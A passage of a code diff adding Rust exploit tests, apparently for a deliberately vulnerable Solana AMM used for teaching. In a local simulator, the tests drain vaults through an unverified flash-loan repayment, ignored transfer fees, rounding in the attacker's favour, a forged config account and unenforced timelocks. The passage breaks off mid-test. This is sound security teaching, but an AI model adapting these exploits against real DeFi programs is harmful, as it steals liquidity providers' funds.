+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+
+        // Add initial liquidity
+        let auth_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_a)
+            .owner(&authority.pubkey())
+            .send()
+            .unwrap();
+        let auth_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &authority, &mint_b)
+            .owner(&authority.pubkey())
+            .send()
+            .unwrap();
+
+        let liquidity = 100_000_000_000;
+        MintTo::new(&mut svm, &authority, &mint_a, &auth_ata_a, liquidity)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_b, &auth_ata_b, liquidity)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        let clock = svm.get_sysvar::<Clock>();
+        let expiration = clock.unix_timestamp + 60;
+
+        let deposit_ix = build_deposit_liquidity_ix(
+            &authority.pubkey(),
+            &mint_a,
+            &mint_b,
+            liquidity,
+            liquidity,
+            liquidity,
+            liquidity,
+            expiration,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[deposit_ix],
+            Some(&authority.pubkey()),
+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        println!("[Setup] Pool has liquidity: 100 A + 100 B");
+
+        // Victim prepares swap with OLD expiration (simulating hours-old transaction)
+        let victim_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_a)
+            .owner(&victim.pubkey())
+            .send()
+            .unwrap();
+
+        MintTo::new(&mut svm, &authority, &mint_a, &victim_ata_a, STALE_SWAP_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+
+        let stale_expiration = clock.unix_timestamp - 3600; // 1 hour in the past
+
+        println!();
+        println!("[SCENARIO] Victim created swap transaction hours ago when price was good");
+        println!("[SCENARIO] Using expiration timestamp from THE PAST: {}", stale_expiration);
+        println!("[SCENARIO] Market has moved significantly since then");
+        println!("[SCENARIO] In secure version, expired transaction should FAIL");
+        println!();
+
+        StaleSwapState { svm, victim, mint_a, mint_b, stale_expiration }
+    }
+
+    fn exploit(&self, state: &mut StaleSwapState) -> TransactionResult {
+        let swap_ix = build_swap_tokens_ix(
+            &state.victim.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            STALE_SWAP_AMOUNT,
+            1,
+            state.stale_expiration, // STALE EXPIRATION
+        );
+
+        let tx = Transaction::new_signed_with_payer(
+            &[swap_ix],
+            Some(&state.victim.pubkey()),
+            &[&state.victim],
+            state.svm.latest_blockhash(),
+        );
+
+        println!("[EXPLOIT] Executing swap with stale expiration timestamp");
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, _state: &mut StaleSwapState) -> u64 {
+        println!();
+        println!("[RESULT] Stale transaction execution: SUCCESS");
+        println!("[IMPACT] In secure version, this would FAIL with TransactionExpired error");
+        println!("[IMPACT] In vulnerable version, this SUCCEEDS despite being hours old");
+        println!("[IMPACT] Victim's swap executes at current (terrible) price instead of failing");
+
+        STALE_SWAP_AMOUNT
+    }
+}
 
-    let swap_ix = build_swap_tokens_ix(
-        &attacker.pubkey(),
-        &mint_a,
-        &mint_b,
-        true, // A for B
-        attacker_amount,
-        1,
-        expiration,
-    );
-    let tx = Transaction::new_signed_with_payer(
-        &[swap_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[EXPLOIT STEP 1] Front-run swap executed - pool ratio now heavily manipulated");
+#[test]
+fn test_exploit_stale_transaction() {
+    run_exploit(&StaleTransaction);
+}
 
-    // EXPLOIT STEP 2: Victim's deposit executes at terrible ratio
-    println!();
-    println!("[EXPLOIT STEP 2] Victim's deposit transaction executes");
-    println!("[EXPLOIT STEP 2] NO SLIPPAGE CHECK in vulnerable version");
-    println!("[EXPLOIT STEP 2] Deposit proceeds at manipulated ratio");
+struct TransferFeeState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    vault_a: Pubkey,
+    vault_b: Pubkey,
+    vault_a_before: u64,
+    vault_b_before: u64,
+    expiration: i64,
+}
 
-    let deposit_ix = build_deposit_liquidity_ix(
-        &victim.pubkey(),
-        &mint_a,
-        &mint_b,
-        victim_amount,
-        victim_amount,
-        victim_amount, // max_amount_a - should fail if checked
-        victim_amount, // max_amount_b - should fail if checked
-        expiration,
-    );
-    let tx = Transaction::new_signed_with_payer(
-        &[deposit_ix],
-        Some(&victim.pubkey()),
-        &[&victim],
-        svm.latest_blockhash(),
-    );
+// EXPLOIT: V015 - Token-2022 transfer fees ignored
+// Demonstrates: Swaps are priced on the gross input while the vault only receives input - fee
+struct TransferFeeIgnored;
+
+// 1000 bp = 10% transfer fee, no cap
+const TRANSFER_FEE_BPS: u16 = 1000;
+const TRANSFER_FEE_SWAP_AMOUNT: u64 = 20_000_000_000;
+
+impl ExploitScenario for TransferFeeIgnored {
+    type State = TransferFeeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V015",
+            title: "Token-2022 Transfer Fee Ignored",
+            severity: Severity::Critical,
+            lesson: "Token-2022 transfer fees must be accounted for on every transfer in and out",
+        }
+    }
+
+    fn setup(&self) -> TransferFeeState {
+        println!("This test demonstrates how ignoring transfer fee extensions lets every swap");
+        println!("pay out more than the vault actually received, bleeding value from LPs.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        println!("[Setup] Authority and attacker funded");
+
+        let mint_a = create_transfer_fee_mint(&mut svm, &authority, DECIMALS, TRANSFER_FEE_BPS, u64::MAX);
+        let mint_b = create_transfer_fee_mint(&mut svm, &authority, DECIMALS, TRANSFER_FEE_BPS, u64::MAX);
+        println!("[Setup] Token-2022 mints with {} bp transfer fee created", TRANSFER_FEE_BPS);
+
+        let init_ix = build_initialize_pool_ix_with_token_program(
+            &authority.pubkey(),
+            &mint_a,
+            &mint_b,
+            30,
+            &TOKEN_2022_PROGRAM_ID,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&authority.pubkey()),
+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+
+        // Authority provides liquidity
+        let auth_ata_a = create_token_2022_ata(&mut svm, &authority, &authority.pubkey(), &mint_a);
+        let auth_ata_b = create_token_2022_ata(&mut svm, &authority, &authority.pubkey(), &mint_b);
+        let liquidity = 100_000_000_000;
+        mint_token_2022(&mut svm, &authority, &mint_a, &auth_ata_a, liquidity);
+        mint_token_2022(&mut svm, &authority, &mint_b, &auth_ata_b, liquidity);
+
+        let clock = svm.get_sysvar::<Clock>();
+        let expiration = clock.unix_timestamp + 60;
+
+        let deposit_ix = build_deposit_liquidity_ix_with_token_program(
+            &authority.pubkey(),
+            &mint_a,
+            &mint_b,
+            liquidity,
+            liquidity,
+            liquidity,
+            liquidity,
+            expiration,
+            &TOKEN_2022_PROGRAM_ID,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[deposit_ix],
+            Some(&authority.pubkey()),
+            &[&authority],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+
+        let (pool_config, _) = derive_pool_config_pda(&mint_a, &mint_b, POOL_FEE_TIER);
+        let (pool_authority, _) = derive_pool_authority_pda(&pool_config);
+        let vault_a = spl_associated_token_account::get_associated_token_address_with_program_id(
+            &pool_authority,
+            &mint_a,
+            &TOKEN_2022_PROGRAM_ID,
+        );
+        let vault_b = spl_associated_token_account::get_associated_token_address_with_program_id(
+            &pool_authority,
+            &mint_b,
+            &TOKEN_2022_PROGRAM_ID,
+        );
+
+        let vault_a_before = get_token_2022_balance(&svm, &vault_a);
+        let vault_b_before = get_token_2022_balance(&svm, &vault_b);
+        println!("[Setup] Deposited {} of each, vaults only hold {} A / {} B", liquidity, vault_a_before, vault_b_before);
+        println!("[Setup] LP tokens were still minted for the full {} (fees ignored on deposit too)", liquidity);
+
+        let attacker_ata_a = create_token_2022_ata(&mut svm, &attacker, &attacker.pubkey(), &mint_a);
+        mint_token_2022(&mut svm, &authority, &mint_a, &attacker_ata_a, TRANSFER_FEE_SWAP_AMOUNT);
+
+        TransferFeeState {
+            svm,
+            attacker,
+            mint_a,
+            mint_b,
+            vault_a,
+            vault_b,
+            vault_a_before,
+            vault_b_before,
+            expiration,
+        }
+    }
+
+    fn exploit(&self, state: &mut TransferFeeState) -> TransactionResult {
+        // EXPLOIT: Attacker swaps a large amount; curve is priced on the gross input
+        println!();
+        println!("[EXPLOIT] Attacker swaps {} A -> B", TRANSFER_FEE_SWAP_AMOUNT);
+        println!("[EXPLOIT] Vault receives only {} A (10% withheld) but pays out as if it got {}",
+                 TRANSFER_FEE_SWAP_AMOUNT - transfer_fee_withheld(), TRANSFER_FEE_SWAP_AMOUNT);
+
+        let swap_ix = build_swap_tokens_ix_with_token_program(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            true,
+            TRANSFER_FEE_SWAP_AMOUNT,
+            1,
+            state.expiration,
+            &TOKEN_2022_PROGRAM_ID,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[swap_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut TransferFeeState) -> u64 {
+        let vault_a_after = get_token_2022_balance(&state.svm, &state.vault_a);
+        let vault_b_after = get_token_2022_balance(&state.svm, &state.vault_b);
+        let k_before = state.vault_a_before as u128 * state.vault_b_before as u128;
+        let k_after = vault_a_after as u128 * vault_b_after as u128;
+
+        println!();
+        println!("[RESULT] k before swap: {}", k_before);
+        println!("[RESULT] k after swap:  {}", k_after);
+        println!("[IMPACT] Constant product DECREASED - LPs lost value to the swapper");
+        println!("[IMPACT] Secure version prices the curve on input - transfer_fee, so k never drops");
+
+        assert!(k_after < k_before, "Vulnerable version lets k decrease when transfer fees are ignored");
+
+        // Input the curve priced in but the vault never received
+        transfer_fee_withheld()
+    }
+}
 
-    let result = svm.send_transaction(tx);
+fn transfer_fee_withheld() -> u64 {
+    TRANSFER_FEE_SWAP_AMOUNT * TRANSFER_FEE_BPS as u64 / 10_000
+}
 
-    println!();
-    println!("[RESULT] Victim deposit: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
-    println!("[IMPACT] In secure version, this would FAIL due to slippage protection");
-    println!("[IMPACT] In vulnerable version, this SUCCEEDS at terrible ratio");
-    println!("[IMPACT] Victim deposits tokens but receives far fewer LP tokens than expected");
+#[test]
+fn test_exploit_transfer_fee_ignored() {
+    run_exploit(&TransferFeeIgnored);
+}
 
-    assert!(result.is_ok(), "Vulnerable version allows deposit despite manipulation");
+struct FlashLoanState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    vault_a: Pubkey,
+    attacker_ata_a: Pubkey,
+}
 
-    println!();
-    println!("[LESSON] Always enforce slippage protection on deposits");
-    println!("[LESSON] max_amount_a and max_amount_b must be validated");
-    println!("================================================================================\n");
+// EXPLOIT: V016 - Flash loan repayment never verified
+// Demonstrates: Borrow the entire vault and close the loan without paying anything back
+struct FlashLoanNoRepayment;
+
+const FLASH_LOAN_LIQUIDITY: u64 = 100_000_000_000;
+
+impl ExploitScenario for FlashLoanNoRepayment {
+    type State = FlashLoanState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V016",
+            title: "Flash Loan Without Repayment",
+            severity: Severity::Critical,
+            lesson: "flash_loan_end must verify vault balance >= balance_before + fee",
+        }
+    }
+
+    fn setup(&self) -> FlashLoanState {
+        println!("This test demonstrates how a flash_loan_end that never checks the vault");
+        println!("balance turns a flash loan into a one-transaction pool drain.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        let (mint_a, mint_b) = setup_pool_with_liquidity(&mut svm, &authority, FLASH_LOAN_LIQUIDITY);
+        let vault_a = derive_vault(&mint_a, &mint_b, &mint_a);
+        println!("[Setup] Honest LP seeded the pool with {} of each token", FLASH_LOAN_LIQUIDITY);
+
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        println!("[Setup] Attacker holds 0 token A");
+
+        FlashLoanState { svm, attacker, mint_a, mint_b, vault_a, attacker_ata_a }
+    }
+
+    fn exploit(&self, state: &mut FlashLoanState) -> TransactionResult {
+        // EXPLOIT: begin(entire vault) -> end, no repayment in between
+        println!();
+        println!("[EXPLOIT] Attacker sends: flash_loan_begin({}) -> flash_loan_end", FLASH_LOAN_LIQUIDITY);
+        println!("[EXPLOIT] Fee owed: {} (never paid), principal owed: {} (never paid)",
+                 flash_loan_fee(FLASH_LOAN_LIQUIDITY), FLASH_LOAN_LIQUIDITY);
+
+        let begin_ix = build_flash_loan_begin_ix(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+            &state.mint_b,
+            &state.mint_a,
+            &state.attacker_ata_a,
+            FLASH_LOAN_LIQUIDITY,
+        );
+        let end_ix = build_flash_loan_end_ix(&state.mint_a, &state.mint_b, &state.mint_a);
+        let tx = Transaction::new_signed_with_payer(
+            &[begin_ix, end_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            state.svm.latest_blockhash(),
+        );
+
+        state.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut FlashLoanState) -> u64 {
+        let vault: spl_token::state::Account = get_spl_account(&state.svm, &state.vault_a).unwrap();
+        let stolen: spl_token::state::Account = get_spl_account(&state.svm, &state.attacker_ata_a).unwrap();
+
+        println!();
+        println!("[RESULT] Vault A balance: {} (was {})", vault.amount, FLASH_LOAN_LIQUIDITY);
+        println!("[RESULT] Attacker token A: {}", stolen.amount);
+        println!("[IMPACT] Entire token A side of the pool drained in one transaction");
+        println!("[IMPACT] LP tokens are now backed by token B only");
+
+        assert_eq!(vault.amount, 0, "Vault A should be empty");
+        assert_eq!(stolen.amount, FLASH_LOAN_LIQUIDITY, "Attacker should hold the whole vault");
+
+        stolen.amount
+    }
 }
 
 #[test]
-fn test_exploit_inflation_attack() {
-    // EXPLOIT: V005 - MINIMUM_LIQUIDITY = 1 (enables inflation attacks)
-    // Demonstrates: First depositor can inflate LP token value to steal from later depositors
-    println!("\n================================================================================");
-    println!("EXPLOIT TEST: Inflation Attack (V005 - MINIMUM_LIQUIDITY too low)");
-    println!("================================================================================");
-    println!("This test demonstrates classic DeFi inflation attack on first deposit.");
-    println!("Attacker creates pool, donates tokens to inflate LP value, victim gets 0 LP.");
-    println!();
+fn test_exploit_flash_loan_no_repayment() {
+    run_exploit(&FlashLoanNoRepayment);
+}
 
-    let mut svm = setup_svm();
-    let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    let attacker = create_funded_account(&mut svm, 100 * LAMPORTS_PER_SOL);
-    let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
-    println!("[Setup] Authority, attacker, and victim funded");
+struct BypassConfigState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+}
 
-    // Create mints
-    let mint_a = CreateMint::new(&mut svm, &authority)
-        .authority(&authority.pubkey())
-        .decimals(DECIMALS)
-        .send()
+// EXPLOIT: V017 - Global AmmConfig accepted without owner or PDA checks
+// Demonstrates: Permissioned pool creation bypassed by omitting or forging the config
+struct BypassAmmConfig;
+
+impl ExploitScenario for BypassAmmConfig {
+    type State = BypassConfigState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V017",
+            title: "Bypass Permissioned Pool Creation",
+            severity: Severity::High,
+            lesson: "Pin global config accounts by PDA and verify owner + discriminator",
+        }
+    }
+
+    fn setup(&self) -> BypassConfigState {
+        println!("This test demonstrates how an optional, unchecked config account lets anyone");
+        println!("create pools with any fee, even after the admin locked creation down.");
+        println!();
+
+        let mut svm = setup_svm();
+        let admin = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        // Admin locks pool creation to themselves with a single 30bp tier
+        let config_ix = build_initialize_amm_config_ix(&admin.pubkey(), &admin.pubkey(), &[30]);
+        let tx = Transaction::new_signed_with_payer(
+            &[config_ix],
+            Some(&admin.pubkey()),
+            &[&admin],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+        let (real_config, _) = derive_amm_config_pda();
+        println!("[Setup] Admin initialized AMM config: creator = admin, fee tiers = [30]");
+
+        // Sanity: passing the real config rejects the attacker
+        let mint_a = create_attacker_mint(&mut svm, &attacker);
+        let mint_b = create_attacker_mint(&mut svm, &attacker);
+        let init_ix = build_initialize_pool_ix_with_amm_config(
+            &attacker.pubkey(),
+            &mint_a,
+            &mint_b,
+            5000,
+            &real_config,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&attacker.pubkey()),
+            &[&attacker],
+            svm.latest_blockhash(),
+        );
+        assert!(svm.send_transaction(tx).is_err(), "Real config should reject the attacker");
+        println!("[Setup] With the real config passed in, the attacker is rejected");
+
+        BypassConfigState { svm, attacker, mint_a, mint_b }
+    }
+
+    fn exploit(&self, state: &mut BypassConfigState) -> TransactionResult {
+        let svm = &mut state.svm;
+        let attacker = &state.attacker;
+
+        // EXPLOIT 1: Simply omit the optional config account
+        println!();
+        println!("[EXPLOIT] Step 1: Attacker omits amm_config entirely, fee = 5000bp (50%)");
+        let init_ix = build_initialize_pool_ix(&attacker.pubkey(), &state.mint_a, &state.mint_b, 5000);
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&attacker.pubkey()),
+            &[attacker],
+            svm.latest_blockhash(),
+        );
+        let result = svm.send_transaction(tx);
+        assert!(result.is_ok(), "Vulnerable version allows omitting the config: {:?}", result.err());
+        println!("[RESULT] Pool created with no config check at all");
+
+        // EXPLOIT 2: Forge a config naming the attacker as pool creator
+        println!();
+        println!("[EXPLOIT] Step 2: Attacker forges an AmmConfig they own, fee tiers = [5000]");
+        let fake_config = Pubkey::new_unique();
+        let mut data = account_discriminator("AmmConfig").to_vec();
+        data.extend_from_slice(attacker.pubkey().as_ref()); // admin
+        data.extend_from_slice(attacker.pubkey().as_ref()); // pool_creation_authority
+        data.extend_from_slice(&1u32.to_le_bytes()); // fee_tiers length
+        data.extend_from_slice(&5000u16.to_le_bytes()); // fee_tiers[0]
+        data.push(255); // bump
+        svm.set_account(
+            fake_config,
+            solana_sdk::account::Account {
+                lamports: LAMPORTS_PER_SOL,
+                data,
+                owner: attacker.pubkey(), // not the AMM program - never checked
+                executable: false,
+                rent_epoch: 0,
+            },
+        )
         .unwrap();
-    let mint_b = CreateMint::new(&mut svm, &authority)
-        .authority(&authority.pubkey())
+
+        let mint_c = create_attacker_mint(svm, attacker);
+        let mint_d = create_attacker_mint(svm, attacker);
+        let init_ix = build_initialize_pool_ix_with_amm_config(
+            &attacker.pubkey(),
+            &mint_c,
+            &mint_d,
+            5000,
+            &fake_config,
+        );
+        let tx = Transaction::new_signed_with_payer(
+            &[init_ix],
+            Some(&attacker.pubkey()),
+            &[attacker],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, _state: &mut BypassConfigState) -> u64 {
+        println!("[RESULT] Pool created using the forged config");
+
+        println!();
+        println!("[IMPACT] Permissioned pool creation is meaningless - anyone creates pools");
+        println!("[IMPACT] Fee tier whitelist ignored (50% fee pools look \"approved\")");
+
+        // The pools are empty; swappers pay the fee later
+        0
+    }
+}
+
+fn create_attacker_mint(svm: &mut LiteSVM, attacker: &Keypair) -> Pubkey {
+    CreateMint::new(svm, attacker)
+        .authority(&attacker.pubkey())
         .decimals(DECIMALS)
         .send()
-        .unwrap();
-    println!("[Setup] Token mints created");
+        .unwrap()
+}
 
-    // Initialize pool
-    let init_ix = build_initialize_pool_ix(&attacker.pubkey(), &mint_a, &mint_b, 30);
-    let tx = Transaction::new_signed_with_payer(
-        &[init_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-    println!("[Setup] Pool initialized by attacker");
+#[test]
+fn test_exploit_bypass_amm_config() {
+    run_exploit(&BypassAmmConfig);
+}
 
-    // EXPLOIT STEP 1: Attacker deposits minimal amounts
-    println!();
-    println!("[EXPLOIT STEP 1] Attacker performs first deposit with tiny amounts");
-    let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
-        .owner(&attacker.pubkey())
-        .send()
-        .unwrap();
-    let attacker_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_b)
-        .owner(&attacker.pubkey())
-        .send()
-        .unwrap();
+struct RoundingState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    vault_a: Pubkey,
+    vault_b: Pubkey,
+    attacker_ata_a: Pubkey,
+    expiration: i64,
+}
 
-    let tiny_amount = 1000; // Minimal amount
-    MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, tiny_amount * 2)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    MintTo::new(&mut svm, &authority, &mint_b, &attacker_ata_b, tiny_amount * 2)
-        .owner(&authority)
-        .send()
-        .unwrap();
+// EXPLOIT: V018 - Exact-output input rounded down
+// Demonstrates: Requesting outputs worth < 1 input token costs nothing
+struct ExactOutRounding;
 
-    let clock = svm.get_sysvar::<Clock>();
-    let expiration = clock.unix_timestamp + 60;
+// 1 A is worth 1,000,000 B
+const ROUNDING_RESERVE_A: u64 = 1_000;
+const ROUNDING_RESERVE_B: u64 = 1_000_000_000;
+const ROUNDING_SWAPS: u64 = 10;
 
-    let deposit_ix = build_deposit_liquidity_ix(
-        &attacker.pubkey(),
-        &mint_a,
-        &mint_b,
-        tiny_amount,
-        tiny_amount,
-        tiny_amount,
-        tiny_amount,
-        expiration,
+// Vary the amount so each transaction has a unique signature
+fn rounding_output_amount(i: u64) -> u64 {
+    500_000 + i
+}
+
+impl ExploitScenario for ExactOutRounding {
+    type State = RoundingState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V018",
+            title: "Exact-Output Rounding Leak",
+            severity: Severity::Critical,
+            lesson: "Inverse curve math must round UP - every rounding step favors the pool",
+        }
+    }
+
+    fn setup(&self) -> RoundingState {
+        println!("This test demonstrates how rounding the required input down (in the user's");
+        println!("favor) lets an attacker withdraw output tokens without paying anything.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        let (mint_a, mint_b) =
+            setup_pool_with_reserves(&mut svm, &authority, ROUNDING_RESERVE_A, ROUNDING_RESERVE_B);
+        let vault_a = derive_vault(&mint_a, &mint_b, &mint_a);
+        let vault_b = derive_vault(&mint_a, &mint_b, &mint_b);
+        println!("[Setup] Pool reserves: {} A / {} B", ROUNDING_RESERVE_A, ROUNDING_RESERVE_B);
+
+        // Attacker holds zero token A
+        let attacker_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &attacker, &mint_a)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        println!("[Setup] Attacker holds 0 token A");
+
+        let clock = svm.get_sysvar::<Clock>();
+        let expiration = clock.unix_timestamp + 60;
+
+        RoundingState { svm, attacker, mint_a, mint_b, vault_a, vault_b, attacker_ata_a, expiration }
+    }
+
+    fn exploit(&self, state: &mut RoundingState) -> TransactionResult {
+        // EXPLOIT: Each request costs ~0.5 A, floor() rounds it to 0
+        println!();
+        println!("[EXPLOIT] {} exact-out swaps of ~500,000 B with max_input_amount = 0", ROUNDING_SWAPS);
+
+        for i in 0..ROUNDING_SWAPS - 1 {
+            let result = send_exact_out_swap(state, i);
+            assert!(result.is_ok(), "Vulnerable rounding should allow free swap: {:?}", result.err());
+        }
+        send_exact_out_swap(state, ROUNDING_SWAPS - 1)
+    }
+
+    fn assert_impact(&self, state: &mut RoundingState) -> u64 {
+        let total_stolen: u64 = (0..ROUNDING_SWAPS).map(rounding_output_amount).sum();
+
+        let attacker_a: spl_token::state::Account = get_spl_account(&state.svm, &state.attacker_ata_a).unwrap();
+        let vault_a_after: spl_token::state::Account = get_spl_account(&state.svm, &state.vault_a).unwrap();
+        let vault_b_after: spl_token::state::Account = get_spl_account(&state.svm, &state.vault_b).unwrap();
+
+        println!();
+        println!("[RESULT] Attacker paid: 0 A");
+        println!("[RESULT] Attacker received: {} B", total_stolen);
+        println!("[RESULT] Vault A: {} (unchanged), Vault B: {}", vault_a_after.amount, vault_b_after.amount);
+        println!("[IMPACT] k strictly decreased - LPs lost {} B for nothing", total_stolen);
+
+        assert_eq!(attacker_a.amount, 0, "Attacker never spent any token A");
+        assert_eq!(vault_a_after.amount, ROUNDING_RESERVE_A, "Vault A never received anything");
+        assert_eq!(vault_b_after.amount, ROUNDING_RESERVE_B - total_stolen);
+
+        total_stolen
+    }
+}
+
+fn send_exact_out_swap(state: &mut RoundingState, i: u64) -> TransactionResult {
+    let swap_ix = build_swap_tokens_exact_out_ix(
+        &state.attacker.pubkey(),
+        &state.mint_a,
+        &state.mint_b,
+        true,
+        0,
+        rounding_output_amount(i),
+        state.expiration,
     );
     let tx = Transaction::new_signed_with_payer(
-        &[deposit_ix],
-        Some(&attacker.pubkey()),
-        &[&attacker],
-        svm.latest_blockhash(),
+        &[swap_ix],
+        Some(&state.attacker.pubkey()),
+        &[&state.attacker],
+        state.svm.latest_blockhash(),
     );
-    svm.send_transaction(tx).unwrap();
-    println!("[EXPLOIT STEP 1] First deposit complete: {} A + {} B", tiny_amount, tiny_amount);
-    println!("[EXPLOIT STEP 1] With MINIMUM_LIQUIDITY=1, attacker gets sqrt(1000*1000)-1 LP tokens");
+    state.svm.send_transaction(tx)
+}
 
-    // EXPLOIT STEP 2: Attacker donates massive amounts directly to vaults
-    println!();
-    println!("[EXPLOIT STEP 2] Attacker donates MASSIVE amounts directly to vaults");
-    println!("[EXPLOIT STEP 2] This inflates the LP token value without minting new LP");
+#[test]
+fn test_exploit_exact_out_rounding() {
+    run_exploit(&ExactOutRounding);
+}
 
-    let (pool_config, _) = derive_pool_config_pda(&mint_a, &mint_b);
-    let (pool_authority, _) = derive_pool_authority_pda(&pool_config);
-    let vault_a = spl_associated_token_account::get_associated_token_address(&pool_authority, &mint_a);
-    let vault_b = spl_associated_token_account::get_associated_token_address(&pool_authority, &mint_b);
+struct FeeChangeState {
+    svm: LiteSVM,
+    authority: Keypair,
+    victim: Keypair,
+    mint_a: Pubkey,
+    mint_b: Pubkey,
+    victim_ata_b: Pubkey,
+}
 
-    let donation_amount = 1_000_000_000; // Donate 1 billion units
-    MintTo::new(&mut svm, &authority, &mint_a, &attacker_ata_a, donation_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
-    MintTo::new(&mut svm, &authority, &mint_b, &attacker_ata_b, donation_amount)
-        .owner(&authority)
-        .send()
-        .unwrap();
+// EXPLOIT: V019 - Fee change timelock never enforced
+// Demonstrates: Authority front-runs a swap with request + change in one transaction
+struct InstantFeeChange;
+
+const FEE_CHANGE_SWAP_AMOUNT: u64 = 10_000_000;
+const RUG_FEE_BPS: u16 = 5000;
+
+impl ExploitScenario for InstantFeeChange {
+    type State = FeeChangeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V019",
+            title: "Instant Fee Change / Fee Rug",
+            severity: Severity::High,
+            lesson: "Parameter changes must be timelocked - enforce the delay on execution",
+        }
+    }
+
+    fn setup(&self) -> FeeChangeState {
+        println!("This test demonstrates how an unenforced timelock lets the pool authority");
+        println!("raise the fee right before a victim's swap lands.");
+        println!();
+
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let victim = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+
+        let (mint_a, mint_b) = setup_pool_with_liquidity(&mut svm, &authority, 1_000_000_000);
+        println!("[Setup] Pool created with 30bp fee, 1,000,000,000 of each token");
+
+        let victim_ata_a = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_a)
+            .owner(&victim.pubkey())
+            .send()
+            .unwrap();
+        let victim_ata_b = CreateAssociatedTokenAccount::new(&mut svm, &victim, &mint_b)
+            .owner(&victim.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut svm, &authority, &mint_a, &victim_ata_a, FEE_CHANGE_SWAP_AMOUNT)
+            .owner(&authority)
+            .send()
+            .unwrap();
+        println!("[Setup] Victim about to swap {} A, expecting the 30bp fee", FEE_CHANGE_SWAP_AMOUNT);
+
+        FeeChangeState { svm, authority, victim, mint_a, mint_b, victim_ata_b }
+    }
+
+    fn exploit(&self, state: &mut FeeChangeState) -> TransactionResult {
+        // EXPLOIT: Authority sees the pending swap and raises the fee to 50% first
+        println!();
+        println!("[EXPLOIT] Authority calls request_fee_change({}) + change_pool_fee in one tx", RUG_FEE_BPS);
+        let request_ix =
+            build_request_fee_change_ix(&state.authority.pubkey(), &state.mint_a, &state.mint_b, RUG_FEE_BPS);
